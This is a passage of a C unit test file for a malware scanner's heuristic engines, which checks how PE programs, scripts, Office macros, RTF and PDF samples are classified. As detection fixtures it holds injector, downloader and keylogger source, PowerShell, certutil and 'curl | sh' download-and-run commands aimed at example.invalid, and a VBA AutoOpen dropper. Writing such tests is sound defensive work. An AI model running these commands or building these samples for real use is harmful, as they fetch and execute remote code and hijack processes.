/*
 * test_heur.c - unit tests for the heuristic engines (engines/heur_pe.c,
 * heur_script.c, heur_doc.c: Panoptes-PE, Panoptes-Script,
 * Panoptes-Document).
 *
 * Inputs are made at run time: PE programs compiled with
 * x86_64-w64-mingw32-gcc (an injector, a downloader, a keylogger, an
 * anti-debug program, a plain hello) and patched in their bytes (section
 * characteristics, entry point, time stamp); scripts written as text
 * (example.invalid URLs only); OLE documents with VBA macros from the
 * compound file writer of test_ole.c (included with TEST_OLE_NO_MAIN),
 * an OOXML .docm-like zip (stored members, written here) with that
 * vbaProject.bin and a remote template relationship, RTF and PDF
 * documents.  Benign inputs that must stay undetected: /bin/true, Wine
 * DLLs, Debian Python files and PDFs when installed, a plain script.
 *
 * SPDX-License-Identifier: MIT
 */
#define TEST_OLE_NO_MAIN
#pragma GCC diagnostic ignored "-Wunused-function"   /* test_ole.c helpers not used here */
#include "test_ole.c"

#include "engine.h"
#include "conf.h"
#include "pe.h"
#include "b64.h"

#include <dirent.h>
#include <unistd.h>
#include <zlib.h>

#define WINE_DIR "/usr/lib/x86_64-linux-gnu/wine/x86_64-windows"
#define MINGW "x86_64-w64-mingw32-gcc"

static char hdir[256];
static struct pn_conf *conf;

struct eng {
	struct pn_engine e;
};

static void
eng_init(struct pn_engine *e, const struct pn_engine_ops *ops, const char *name)
{
	memset(e, 0, sizeof(*e));
	e->ops = ops;
	pn_strlcpy(e->name, name, sizeof(e->name));
	if (ops->init(e, conf) != PN_OK)
		abort();
}

/* Scan bytes; returns the category, fills *v (release it). */
static enum pn_category
scan(struct pn_engine *e, const void *d, size_t n, const char *tag, struct pn_verdict *v)
{
	struct pn_scan_target t;
	int rc;

	memset(&t, 0, sizeof(t));
	t.fd = -1;
	t.data = n ? d : NULL;
	t.size = n;
	t.type_tag = tag;
	memset(v, 0, sizeof(*v));
	rc = e->ops->scan(e, &t, v);
	if (rc != PN_OK)
		return PN_CAT__COUNT;
	return v->category;
}

/* The reason with this id in v->details, or NULL. */
static struct json_object *
reason(const struct pn_verdict *v, const char *id)
{
	struct json_object *rs, *r, *x;
	size_t i;

	if (v->details == NULL || !json_object_object_get_ex(v->details, "reasons", &rs))
		return NULL;
	for (i = 0; i < json_object_array_length(rs); i++) {
		r = json_object_array_get_idx(rs, i);
		if (json_object_object_get_ex(r, "id", &x) && strcmp(json_object_get_string(x), id) == 0)
			return r;
	}
	return NULL;
}

static int
score(const struct pn_verdict *v)
{
	struct json_object *x;

	return v->details && json_object_object_get_ex(v->details, "score", &x) ?
	    json_object_get_int(x) : -1;
}

static const char *
cat(enum pn_category c)
{
	return c < PN_CAT__COUNT ? pn_category_name(c) : "error";
}

/* Scan, check category, optional reason and optional label. */
static void
expect(struct pn_engine *e, const void *d, size_t n, const char *tag, enum pn_category want,
    const char *rid, const char *label, const char *what)
{
	struct pn_verdict v;
	enum pn_category c = scan(e, d, n, tag, &v);

	is_str(cat(c), cat(want), "%s: %s is %s", e->name, what, cat(want));
	if (rid != NULL)
		ok(reason(&v, rid) != NULL, "%s: %s has reason %s", e->name, what, rid);
	if (label != NULL)
		is_str(v.result ? v.result : "(null)", label, "%s: %s label", e->name, what);
	if (c != want || (rid && !reason(&v, rid)))
		diag("details: %s", v.details ? json_object_to_json_string(v.details) : "none");
	pn_verdict_release(&v);
}

/* ------------------------------------------------------------------ */
/* PE programs                                                         */

static int have_mingw;

static uint8_t *
compile(const char *name, const char *src, const char *libs, size_t *len)
{
	char c[512], exe[512], cmd[2048];

	snprintf(c, sizeof(c), "%s/%s.c", hdir, name);
	snprintf(exe, sizeof(exe), "%s/%s.exe", hdir, name);
	if (write_file(c, src, strlen(src)) != 0)
		return NULL;
	snprintf(cmd, sizeof(cmd), MINGW " -O1 -o %s %s %s 2>&1", exe, c, libs);
	if (system(cmd) != 0)
		return NULL;
	return read_file(exe, len);
}

/* File offset of section header i of a PE in d. */
static size_t
sect_hdr(const uint8_t *d, int i)
{
	uint32_t pe = pn_le32(d + 0x3c);
	uint16_t opt = (uint16_t)(d[pe + 20] | d[pe + 21] << 8);

	return pe + 24 + opt + (size_t)i * 40;
}

static int
find_sect(const uint8_t *d, const char *name)
{
	uint32_t pe = pn_le32(d + 0x3c);
	int n = d[pe + 6] | d[pe + 7] << 8, i;

	for (i = 0; i < n; i++)
		if (strncmp((const char *)d + sect_hdr(d, i), name, 8) == 0)
			return i;
	return -1;
}

static const char *src_hello =
"#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n";

static const char *src_inject =
"#include <windows.h>\n"
"int main(int argc, char **argv) {\n"
"  HANDLE p = OpenProcess(PROCESS_ALL_ACCESS, FALSE, (DWORD)argc);\n"
"  void *m = VirtualAllocEx(p, NULL, 4096, MEM_COMMIT, PAGE_EXECUTE_READWRITE);\n"
"  SIZE_T w; WriteProcessMemory(p, m, argv[0], 16, &w);\n"
"  CreateRemoteThread(p, NULL, 0, (LPTHREAD_START_ROUTINE)m, NULL, 0, NULL);\n"
"  return 0; }\n";

static const char *src_inject_dbg =
"#include <windows.h>\n#include <winternl.h>\n"
"int main(int argc, char **argv) {\n"
"  BOOL r = FALSE; PROCESS_BASIC_INFORMATION pbi; ULONG l;\n"
"  if (IsDebuggerPresent()) return 1;\n"
"  CheckRemoteDebuggerPresent(GetCurrentProcess(), &r);\n"
"  NtQueryInformationProcess(GetCurrentProcess(), ProcessBasicInformation, &pbi, sizeof(pbi), &l);\n"
"  HANDLE p = OpenProcess(PROCESS_ALL_ACCESS, FALSE, (DWORD)argc);\n"
"  void *m = VirtualAllocEx(p, NULL, 4096, MEM_COMMIT, PAGE_EXECUTE_READWRITE);\n"
"  SIZE_T w; WriteProcessMemory(p, m, argv[0], 16, &w);\n"
"  QueueUserAPC((PAPCFUNC)m, p, 0);\n"
"  return r; }\n";

static const char *src_download =
"#include <windows.h>\n#include <urlmon.h>\n"
"int main(void) {\n"
"  if (URLDownloadToFileA(NULL, \"http://example.invalid/a.exe\", \"a.exe\", 0, NULL) == S_OK)\n"
"    WinExec(\"a.exe\", SW_HIDE);\n"
"  return 0; }\n";

static const char *src_keylog =
"#include <windows.h>\n"
"static LRESULT CALLBACK f(int c, WPARAM w, LPARAM l) { return CallNextHookEx(NULL, c, w, l); }\n"
"int main(void) {\n"
"  HHOOK h = SetWindowsHookExA(WH_KEYBOARD_LL, f, NULL, 0);\n"
"  return GetAsyncKeyState(VK_SHIFT) + (h != NULL); }\n";

/* 64 KiB of pseudo-random bytes in a section of their own. */
static const char *src_packed =
"#include <stdio.h>\n"
"#define R(i) (unsigned char)((((i) * 2654435761u) >> 13) ^ ((i) * 40503u >> 5))\n"
"#define R4(i) R(i), R(i+1), R(i+2), R(i+3)\n"
"#define R16(i) R4(i), R4(i+4), R4(i+8), R4(i+12)\n"
"#define R64(i) R16(i), R16(i+16), R16(i+32), R16(i+48)\n"
"#define R256(i) R64(i), R64(i+64), R64(i+128), R64(i+192)\n"
"#define R1K(i) R256(i), R256(i+256), R256(i+512), R256(i+768)\n"
"#define R4K(i) R1K(i), R1K(i+1024), R1K(i+2048), R1K(i+3072)\n"
"#define R16K(i) R4K(i), R4K(i+4096), R4K(i+8192), R4K(i+12288)\n"
"__attribute__((section(\".evil\"), used)) const unsigned char blob[] = { R16K(0), R16K(16384) };\n"
"int main(void) { printf(\"%d\\n\", blob[7]); return 0; }\n";

static void
test_pe(void)
{
	struct pn_engine e;
	uint8_t *hello, *d, *cp;
	size_t n, hn;
	uint32_t pe;
	int s;

	eng_init(&e, &pn_engine_heur_pe_ops, "Panoptes-PE");
	is_str(e.ops->kind, "heuristic-pe", "PE engine kind");
	d = read_file("/bin/true", &n);
	ok(d != NULL, "read /bin/true");
	expect(&e, d, n, "elf", PN_CAT_TYPE_UNSUPPORTED, NULL, NULL, "/bin/true");
	free(d);
	expect(&e, "MZ not really", 13, NULL, PN_CAT_TYPE_UNSUPPORTED, NULL, NULL, "an MZ stub");

	have_mingw = system("command -v " MINGW " >/dev/null 2>&1") == 0;
	ok(have_mingw, MINGW " is installed (gcc-mingw-w64-x86-64)");
	if (!have_mingw)
		goto out;

	hello = compile("hello", src_hello, "", &hn);
	ok(hello != NULL, "compile hello.exe");
	if (hello == NULL)
		goto out;
	expect(&e, hello, hn, "peexe", PN_CAT_UNDETECTED, NULL, NULL, "hello.exe");
	pe = pn_le32(hello + 0x3c);

	/* a writable + executable .text */
	cp = pn_xmalloc(hn);
	memcpy(cp, hello, hn);
	s = find_sect(cp, ".text");
	ok(s >= 0, "hello.exe has .text");
	cp[sect_hdr(cp, s) + 39] |= 0x80;
	expect(&e, cp, hn, "peexe", PN_CAT_UNDETECTED, "WXSection", NULL, "RWX .text");

	/* time stamps: future, 1990, 0 (reproducible builds), Delphi's */
	memcpy(cp, hello, hn);
	put32(cp + pe + 8, 0xF0000000u);
	expect(&e, cp, hn, "peexe", PN_CAT_UNDETECTED, "ForgedTimestamp", NULL, "future time stamp");
	put32(cp + pe + 8, 631152000u);
	expect(&e, cp, hn, "peexe", PN_CAT_UNDETECTED, "ForgedTimestamp", NULL, "1990 time stamp");
	{
		struct pn_verdict v;
		put32(cp + pe + 8, 0);
		scan(&e, cp, hn, "peexe", &v);
		ok(reason(&v, "ForgedTimestamp") == NULL, "time stamp 0 is not flagged");
		pn_verdict_release(&v);
		put32(cp + pe + 8, 0x2A425E19u);
		scan(&e, cp, hn, "peexe", &v);
		ok(reason(&v, "ForgedTimestamp") == NULL, "Delphi's 1992 time stamp is not flagged");
		pn_verdict_release(&v);
	}

	/* entry point outside every section */
	memcpy(cp, hello, hn);
	put32(cp + pe + 24 + 16, 0x7ffff000u);
	expect(&e, cp, hn, "peexe", PN_CAT_UNDETECTED, "EntryPoint", NULL, "entry point outside");
	/* SizeOfImage too small */
	memcpy(cp, hello, hn);
	put32(cp + pe + 24 + 56, 0x1000u);
	expect(&e, cp, hn, "peexe", PN_CAT_UNDETECTED, "HeaderAnomaly", NULL, "SizeOfImage short");
	free(cp);
	free(hello);

	/* packed: a random executable section; with every structural oddity still not malicious */
	d = compile("packed", src_packed, "", &n);
	ok(d != NULL, "compile packed.exe");
	if (d != NULL && (s = find_sect(d, ".evil")) >= 0) {
		struct pn_verdict v;

		pe = pn_le32(d + 0x3c);
		put32(d + sect_hdr(d, s) + 36, 0x60000020u);  /* code, execute, read */
		expect(&e, d, n, "peexe", PN_CAT_UNDETECTED, "Packed", NULL, "random code section");
		put32(d + sect_hdr(d, s) + 36, 0xE0000020u);  /* + write */
		put32(d + pe + 8, 0xF0000000u);
		put32(d + pe + 24 + 16, 0x7ffff000u);
		expect(&e, d, n, "peexe", PN_CAT_SUSPICIOUS, "Packed", "Heur.PE.Packed",
		    "packed + RWX + entry point + time stamp");
		scan(&e, d, n, "peexe", &v);
		is_int(score(&v), 70, "structure score is capped at 70");
		pn_verdict_release(&v);
	} else
		ok(0, "packed.exe has .evil");
	free(d);

	d = compile("inject", src_inject, "", &n);
	ok(d != NULL, "compile inject.exe");
	if (d)
		expect(&e, d, n, "peexe", PN_CAT_SUSPICIOUS, "ProcessInjection",
		    "Heur.PE.ProcessInjection", "injector");
	free(d);
	d = compile("inject_dbg", src_inject_dbg, "-lntdll", &n);
	ok(d != NULL, "compile inject_dbg.exe");
	if (d) {
		expect(&e, d, n, "peexe", PN_CAT_MALICIOUS, "AntiDebug", "Heur.PE.ProcessInjection",
		    "injector with anti-debugging");
		/* thresholds come from the options */
		pn_conf_put(conf, "heuristics.malicious_score", "200");
		e.ops->reload(&e, conf);
		expect(&e, d, n, "peexe", PN_CAT_SUSPICIOUS, NULL, NULL, "same, malicious_score 200");
		pn_conf_put(conf, "heuristics.malicious_score", "80");
		e.ops->reload(&e, conf);
	}
	free(d);
	d = compile("download", src_download, "-lurlmon", &n);
	ok(d != NULL, "compile download.exe");
	if (d)
		expect(&e, d, n, "peexe", PN_CAT_SUSPICIOUS, "Downloader", "Heur.PE.Downloader",
		    "downloader");
	free(d);
	d = compile("keylog", src_keylog, "-luser32", &n);
	ok(d != NULL, "compile keylog.exe");
	if (d)
		expect(&e, d, n, "peexe", PN_CAT_UNDETECTED, "Keylogger", NULL, "keyboard hook");
	free(d);
out:
	/* Wine's DLLs: kernel32 imports (and re-exports) the injection API */
	{
		static const char *const wine[] = { "kernel32.dll", "ntdll.dll", "user32.dll",
			"notepad.exe", "winedbg.exe", "urlmon.dll" };
		size_t i;

		for (i = 0; i < PN_ARRAY_LEN(wine); i++) {
			char path[512];

			snprintf(path, sizeof(path), "%s/%s", WINE_DIR, wine[i]);
			if ((d = read_file(path, &n)) == NULL) {
				diag("%s not installed (wine64)", path);
				continue;
			}
			expect(&e, d, n, "pedll", PN_CAT_UNDETECTED, NULL, NULL, wine[i]);
			free(d);
		}
	}
	e.ops->free(&e);
}

/* ------------------------------------------------------------------ */
/* scripts                                                             */

static void
expect_text(struct pn_engine *e, const char *text, const char *tag, enum pn_category want,
    const char *rid, const char *label, const char *what)
{
	expect(e, text, strlen(text), tag, want, rid, label, what);
}

/* "powershell -enc <base64 of UTF-16LE cmd>" */
static char *
ps_encoded(const char *cmd)
{
	size_t n = strlen(cmd), i;
	uint8_t *u = pn_xcalloc(2 * n + 1, 1);
	char *b = pn_xmalloc(pn_b64_encoded_len(2 * n) + 1), *out;

	for (i = 0; i < n; i++)
		u[2 * i] = (uint8_t)cmd[i];
	if (pn_b64_encode(u, 2 * n, b, pn_b64_encoded_len(2 * n) + 1, 0) != PN_OK)
		abort();
	out = pn_xmalloc(strlen(b) + 64);
	snprintf(out, strlen(b) + 64, "powershell.exe -NoProfile -enc %s\r\n", b);
	free(u);
	free(b);
	return out;
}

static void
test_script(void)
{
	struct pn_engine e;
	uint8_t *d;
	size_t n;
	char *s;

	eng_init(&e, &pn_engine_heur_script_ops, "Panoptes-Script");
	is_str(e.ops->kind, "heuristic-script", "script engine kind");
	d = read_file("/bin/true", &n);
	expect(&e, d, n, "elf", PN_CAT_TYPE_UNSUPPORTED, NULL, NULL, "/bin/true");
	free(d);

	expect_text(&e, "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')\r\n",
	    "powershell", PN_CAT_SUSPICIOUS, "DownloadCradle", "Heur.Script.DownloadCradle",
	    "PowerShell cradle");
	expect_text(&e, "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
	    ".DownloadString('http://example.invalid/a.ps1')\"\r\n", "batch", PN_CAT_MALICIOUS,
	    "StealthPowerShell", "Heur.Script.DownloadCradle", "hidden PowerShell cradle");
	s = ps_encoded("IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/x')");
	expect_text(&e, s, "batch", PN_CAT_MALICIOUS, "EncodedPowerShell",
	    "Heur.Script.DownloadCradle", "encoded PowerShell cradle");
	free(s);
	expect_text(&e, "$u='http://example.invalid/a.exe'\nInvoke-WebRequest -Uri $u -OutFile $env:TEMP\\a.exe\n"
	    "Start-Process $env:TEMP\\a.exe\n", "powershell", PN_CAT_SUSPICIOUS, "WebRequestRun",
	    NULL, "Invoke-WebRequest + Start-Process");
	expect_text(&e, "@echo off\r\ncertutil -urlcache -split -f http://example.invalid/a.exe %TEMP%\\a.exe\r\n"
	    "start %TEMP%\\a.exe\r\n", "batch", PN_CAT_SUSPICIOUS, "CertutilDownload", NULL, "certutil");
	expect_text(&e, "@echo off\r\nbitsadmin /transfer j http://example.invalid/a.exe C:\\a.exe\r\n",
	    "batch", PN_CAT_SUSPICIOUS, "BitsadminDownload", NULL, "bitsadmin");
	expect_text(&e, "@echo off\r\nmshta http://example.invalid/a.hta\r\n", "batch",
	    PN_CAT_SUSPICIOUS, "MshtaRemote", NULL, "mshta");
	expect_text(&e, "#!/bin/sh\ncurl -fsSL http://example.invalid/i.sh | sh\n", "shell",
	    PN_CAT_SUSPICIOUS, "PipeToShell", "Heur.Script.PipeToShell", "curl | sh");
	expect_text(&e, "#!/bin/sh\nwget -O- http://example.invalid/i.sh | bash\n", "shell",
	    PN_CAT_SUSPICIOUS, "PipeToShell", NULL, "wget -O- | bash");
	expect_text(&e, "#!/bin/sh\ncd /tmp\nwget http://example.invalid/bot -O .b\nchmod +x .b\n./.b\n",
	    "shell", PN_CAT_UNDETECTED, "ChmodAfterDownload", NULL, "wget + chmod +x");

	/* a base64 MZ blob: the head of a real DOS header */
	{
		static const uint8_t mz[96] = { 'M', 'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff };
		char b[256], txt[512];

		pn_b64_encode(mz, sizeof(mz), b, sizeof(b), 0);
		snprintf(txt, sizeof(txt), "import base64\nexe = base64.b64decode(\n    \"%s\")\n"
		    "open('a.exe', 'wb').write(exe)\n", b);
		expect_text(&e, txt, "python", PN_CAT_SUSPICIOUS, "Base64Executable",
		    "Heur.Script.Base64Executable", "base64 MZ in Python");
		b[0] = 'Q';  /* no longer MZ */
		snprintf(txt, sizeof(txt), "import base64\nexe = base64.b64decode(\n    \"%s\")\n", b);
		expect_text(&e, txt, "python", PN_CAT_UNDETECTED, NULL, NULL, "other base64 in Python");
	}
	expect_text(&e, "var s = atob('YWxlcnQoMSk=');\neval(atob('YWxlcnQoMSk='));\n", "javascript",
	    PN_CAT_SUSPICIOUS, "EvalDecode", NULL, "eval(atob())");
	{
		struct pn_buf b = PN_BUF_INIT;
		int i;

		pn_buf_puts(&b, "var x = String.fromCharCode(");
		for (i = 0; i < 64; i++)
			pn_buf_printf(&b, "%d,", 97 + i % 26);
		pn_buf_puts(&b, "32);\n");
		for (i = 0; i < 10; i++)
			pn_buf_printf(&b, "x += String.fromCharCode(%d) + String.fromCharCode(%d);\n", 100 + i, 65 + i);
		pn_buf_puts(&b, "eval(x);\n");
		expect(&e, b.p, b.len, "javascript", PN_CAT_UNDETECTED, "CharCodes", NULL, "char codes");
		pn_buf_release(&b);
	}
	expect_text(&e, "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://example.invalid/a\", False\n"
	    "h.Send\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"cmd /c a.exe\", 0\n", "vba",
	    PN_CAT_SUSPICIOUS, "VbsShellDownload", NULL, "VBScript downloader");

	/* benign */
	expect_text(&e, "#!/usr/bin/python3\nimport sys\n\ndef main():\n    print('hello', sys.argv)\n\n"
	    "if __name__ == '__main__':\n    main()\n", "python", PN_CAT_UNDETECTED, NULL, NULL,
	    "a plain Python script");
	{
		struct pn_verdict v;
		const char *t = "#!/bin/sh\nset -e\necho hello\n";

		scan(&e, t, strlen(t), "shell", &v);
		is_int(score(&v), 0, "a plain shell script scores 0");
		is_str(v.method ? v.method : "", "heuristic", "method is heuristic");
		ok(v.result == NULL, "undetected has no label");
		pn_verdict_release(&v);
	}
	{
		static const char *const py[] = { "/usr/lib/python3.11/os.py",
			"/usr/lib/python3.11/subprocess.py", "/usr/lib/python3.11/base64.py",
			"/usr/lib/python3.11/urllib/request.py" };
		size_t i;

		for (i = 0; i < PN_ARRAY_LEN(py); i++) {
			if ((d = read_file(py[i], &n)) == NULL) {
				diag("%s not installed", py[i]);
				continue;
			}
			expect(&e, d, n, "python", PN_CAT_UNDETECTED, NULL, NULL, py[i]);
			free(d);
		}
	}
	e.ops->free(&e);
}

/* ------------------------------------------------------------------ */
/* documents                                                           */

struct zw {
	struct pn_buf b, cd;
	unsigned n;
};

static void
zw_add(struct zw *z, const char *name, const void *d, size_t n)
{
	uint32_t crc = (uint32_t)crc32(0, d, (uInt)n), off = (uint32_t)z->b.len;
	size_t nl = strlen(name);

	b_u32(&z->b, 0x04034b50); b_u16(&z->b, 20); b_u16(&z->b, 0); b_u16(&z->b, 0);
	b_u16(&z->b, 0); b_u16(&z->b, 0x21); b_u32(&z->b, crc); b_u32(&z->b, (uint32_t)n);
	b_u32(&z->b, (uint32_t)n); b_u16(&z->b, (uint16_t)nl); b_u16(&z->b, 0);
	pn_buf_append(&z->b, name, nl);
	pn_buf_append(&z->b, d, n);
	b_u32(&z->cd, 0x02014b50); b_u16(&z->cd, 20); b_u16(&z->cd, 20); b_u16(&z->cd, 0);
	b_u16(&z->cd, 0); b_u16(&z->cd, 0); b_u16(&z->cd, 0x21); b_u32(&z->cd, crc);
	b_u32(&z->cd, (uint32_t)n); b_u32(&z->cd, (uint32_t)n); b_u16(&z->cd, (uint16_t)nl);
	b_u16(&z->cd, 0); b_u16(&z->cd, 0); b_u16(&z->cd, 0); b_u16(&z->cd, 0);
	b_u32(&z->cd, 0); b_u32(&z->cd, off);
	pn_buf_append(&z->cd, name, nl);
	z->n++;
}

static void
zw_end(struct zw *z)
{
	uint32_t off = (uint32_t)z->b.len;

	pn_buf_append(&z->b, z->cd.p, z->cd.len);
	b_u32(&z->b, 0x06054b50); b_u16(&z->b, 0); b_u16(&z->b, 0);
	b_u16(&z->b, (uint16_t)z->n); b_u16(&z->b, (uint16_t)z->n);
	b_u32(&z->b, (uint32_t)z->cd.len); b_u32(&z->b, off); b_u16(&z->b, 0);
	pn_buf_release(&z->cd);
}

/* An OLE file with one VBA module of this source (w released by the caller). */
static void
ole_macro(struct ow *w, const char *prefix, const char *src)
{
	struct vmod m[1] = { { "Module1", NULL, 1, 1, 0 } };

	m[0].src = src;
	ow_init(w, 9);
	vba_project(w, prefix, m, 1);
	ow_add(w, "WordDocument", "\xec\xa5\xc1\x00 word document stream", 26);
	ow_build(w);
}

static const char *src_dropper =
"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n"
"  Dim x\r\n  x = Shell(\"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')\", 0)\r\n"
"End Sub\r\n";
static const char *src_autoonly =
"Attribute VB_Name = \"Module1\"\r\nSub Document_Open()\r\n  MsgBox \"Hello\"\r\nEnd Sub\r\n";
static const char *src_plain =
"Attribute VB_Name = \"Module1\"\r\nFunction Add(a, b)\r\n  Add = a + b\r\nEnd Function\r\n";

static void
docm(struct pn_buf *out, const uint8_t *vba, size_t vlen, const char *template_url)
{
	static const char ct[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\""
	    "http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" "
	    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" "
	    "ContentType=\"application/xml\"/><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
	    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
	    "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>"
	    "</Types>";
	static const char rels[] = "<?xml version=\"1.0\"?><Relationships xmlns=\""
	    "http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
	    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
	    "Target=\"word/document.xml\"/></Relationships>";
	static const char doc[] = "<?xml version=\"1.0\"?><w:document xmlns:w=\""
	    "http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Hi</w:t>"
	    "</w:r></w:p></w:body></w:document>";
	static const char settings[] = "<?xml version=\"1.0\"?><w:settings xmlns:w=\""
	    "http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\""
	    "http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>";
	struct zw z;
	char srels[1024];

	memset(&z, 0, sizeof(z));
	zw_add(&z, "[Content_Types].xml", ct, strlen(ct));
	zw_add(&z, "_rels/.rels", rels, strlen(rels));
	zw_add(&z, "word/document.xml", doc, strlen(doc));
	if (vba != NULL)
		zw_add(&z, "word/vbaProject.bin", vba, vlen);
	if (template_url != NULL) {
		zw_add(&z, "word/settings.xml", settings, strlen(settings));
		snprintf(srels, sizeof(srels), "<?xml version=\"1.0\"?><Relationships xmlns=\""
		    "http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
		    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
		    "Target=\"%s\" TargetMode=\"External\"/></Relationships>", template_url);
		zw_add(&z, "word/_rels/settings.xml.rels", srels, strlen(srels));
	}
	zw_end(&z);
	*out = z.b;
}

static void
pdf_make(struct pn_buf *b, const char *catalog_extra, const char *extra_obj)
{
	pn_buf_init(b, 0);
	pn_buf_printf(b, "%%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R %s >>\nendobj\n"
	    "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
	    "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n%s"
	    "trailer\n<< /Root 1 0 R >>\n%%%%EOF\n", catalog_extra, extra_obj);
}

static void
test_doc(void)
{
	struct pn_engine e;
	struct pn_buf b;
	struct ow w;
	uint8_t *d;
	size_t n;

	eng_init(&e, &pn_engine_heur_doc_ops, "Panoptes-Document");
	is_str(e.ops->kind, "heuristic-doc", "document engine kind");
	d = read_file("/bin/true", &n);
	expect(&e, d, n, "elf", PN_CAT_TYPE_UNSUPPORTED, NULL, NULL, "/bin/true");
	free(d);
	expect_text(&e, "just some text\n", "text", PN_CAT_TYPE_UNSUPPORTED, NULL, NULL, "text");

	/* OLE .doc */
	ole_macro(&w, "Macros/VBA", src_dropper);
	expect(&e, w.buf, w.len, "doc", PN_CAT_MALICIOUS, "AutoExecMacro", NULL, "AutoOpen + Shell macro");
	expect(&e, w.buf, w.len, "doc", PN_CAT_MALICIOUS, "MacroShellDownload", NULL, "AutoOpen + Shell macro");
	/* the same as an OOXML .docm */
	docm(&b, w.buf, w.len, NULL);
	expect(&e, b.p, b.len, "docx", PN_CAT_MALICIOUS, "MacroShellDownload", NULL, "docm with dropper");
	pn_buf_release(&b);
	ow_free(&w);
	ole_macro(&w, "Macros/VBA", src_autoonly);
	expect(&e, w.buf, w.len, "doc", PN_CAT_SUSPICIOUS, "AutoExecMacro", "Heur.Doc.AutoExecMacro",
	    "Document_Open alone");
	ow_free(&w);
	ole_macro(&w, "VBA", src_plain);
	expect(&e, w.buf, w.len, "xls", PN_CAT_UNDETECTED, NULL, NULL, "a plain macro");
	docm(&b, w.buf, w.len, NULL);
	expect(&e, b.p, b.len, "docx", PN_CAT_UNDETECTED, NULL, NULL, "docm with a plain macro");
	pn_buf_release(&b);
	ow_free(&w);

	docm(&b, NULL, 0, "http://example.invalid/t.dotm");
	expect(&e, b.p, b.len, "docx", PN_CAT_SUSPICIOUS, "TemplateInjection",
	    "Heur.Doc.TemplateInjection", "remote template");
	pn_buf_release(&b);
	docm(&b, NULL, 0, NULL);
	expect(&e, b.p, b.len, "docx", PN_CAT_UNDETECTED, NULL, NULL, "plain docx");
	pn_buf_release(&b);

	/* RTF */
	expect_text(&e, "{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}\\objw10\\objh10"
	    "{\\*\\objdata 01050000020000000b0000004571756174696f6e2e33000000000000000000}}}",
	    "rtf", PN_CAT_SUSPICIOUS, "EquationObject", "Heur.Doc.EquationObject", "Equation.3 object");
	expect_text(&e, "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Package}\\objw10\\objh10"
	    "{\\*\\objdata 0105000002000000080000005061636b616765000000000000000000}}}",
	    "rtf", PN_CAT_SUSPICIOUS, "ObjUpdate", NULL, "\\objupdate");
	expect_text(&e, "{\\rtf1\\ansi{\\fonttbl{\\f0 Times;}}\\f0 Hello world.\\par}", "rtf",
	    PN_CAT_UNDETECTED, NULL, NULL, "plain RTF");

	/* PDF */
	pdf_make(&b, "/OpenAction 4 0 R", "4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n");
	expect(&e, b.p, b.len, "pdf", PN_CAT_SUSPICIOUS, "PdfAutoJavaScript",
	    "Heur.Doc.PdfAutoJavaScript", "PDF OpenAction JavaScript");
	pn_buf_release(&b);
	pdf_make(&b, "/OpenAction 4 0 R", "4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n");
	expect(&e, b.p, b.len, "pdf", PN_CAT_SUSPICIOUS, "PdfLaunch", NULL, "PDF Launch");
	pn_buf_release(&b);
	{
		char obj[1024];
		static const char exe[] = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
		    "........................................................";

		snprintf(obj, sizeof(obj), "4 0 obj\n<< /Type /EmbeddedFile /Length %zu >>\nstream\n",
		    sizeof(exe) - 1);
		pn_buf_init(&b, 0);
		{
			struct pn_buf o2;
			pn_buf_init(&o2, 0);
			pn_buf_puts(&o2, obj);
			pn_buf_append(&o2, exe, sizeof(exe) - 1);
			pn_buf_puts(&o2, "\nendstream\nendobj\n5 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>\nendobj\n");
			pdf_make(&b, "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", o2.p);
			pn_buf_release(&o2);
		}
		expect(&e, b.p, b.len, "pdf", PN_CAT_MALICIOUS, "EmbeddedExecutable",
		    "Heur.Doc.EmbeddedExecutable", "PDF with an embedded MZ");
		pn_buf_release(&b);
	}
	pdf_make(&b, "", "");
	expect(&e, b.p, b.len, "pdf", PN_CAT_UNDETECTED, NULL, NULL, "plain PDF");
	pn_buf_release(&b);
	{
		FILE *f = popen("find /usr/share/doc -name '*.pdf' -size -4M 2>/dev/null | sort | head -3", "r");
		char path[1024];

		while (f != NULL && fgets(path, sizeof(path), f) != NULL) {
			path[strcspn(path, "\n")] = '\0';
			if ((d = read_file(path, &n)) != NULL)
